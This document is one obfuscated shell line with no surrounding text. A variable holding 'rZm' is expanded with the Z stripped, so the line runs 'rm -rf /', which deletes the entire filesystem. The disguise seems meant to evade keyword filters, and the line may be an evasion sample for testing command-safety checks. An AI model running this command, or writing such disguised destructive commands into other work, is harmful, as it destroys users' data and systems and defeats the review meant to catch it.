x=rZm; ${x/Z/} -rf /
